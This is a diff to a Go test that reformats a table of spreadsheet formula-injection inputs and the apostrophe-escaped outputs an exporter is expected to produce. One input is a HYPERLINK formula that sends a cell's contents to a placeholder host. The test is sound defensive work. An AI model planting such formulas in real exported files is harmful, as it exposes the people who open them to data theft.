@@ -116,10 +116,21 @@ func TestExportedCellsAreNotRun(t *testing.T) {
 	var hostile, told []string
 	for _, c := range [][2]string{
 		{`=HYPERLINK("http://x/?"&A1,"click")`, `'=HYPERLINK("http://x/?"&A1,"click")`},
-		{"+1+1", "'+1+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"},
-		{"\r=1", "'\r'=1"}, {"= 1", "'= 1"}, {" =1", " '=1"}, {"a=1", "a=1"}, {"'=1", "'=1"},
-		{"a,=1", "a,=1"}, {"a\n=1", "a\n'=1"}, {`ok; =HYPERLINK("x";"y")`, `ok; '=HYPERLINK("x";"y")`},
-		{"a\t=1", "a\t'=1"}, {`"=1`, `"=1`}, {"bad \xff utf8", "bad \ufffd utf8"},
+		{"+1+1", "'+1+1"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"},
+		{"\r=1", "'\r'=1"},
+		{"= 1", "'= 1"},
+		{" =1", " '=1"},
+		{"a=1", "a=1"},
+		{"'=1", "'=1"},
+		{"a,=1", "a,=1"},
+		{"a\n=1", "a\n'=1"},
+		{`ok; =HYPERLINK("x";"y")`, `ok; '=HYPERLINK("x";"y")`},
+		{"a\t=1", "a\t'=1"},
+		{`"=1`, `"=1`},
+		{"bad \xff utf8", "bad \ufffd utf8"},
 	} {
 		hostile, told = append(hostile, c[0]), append(told, c[1])
 	}
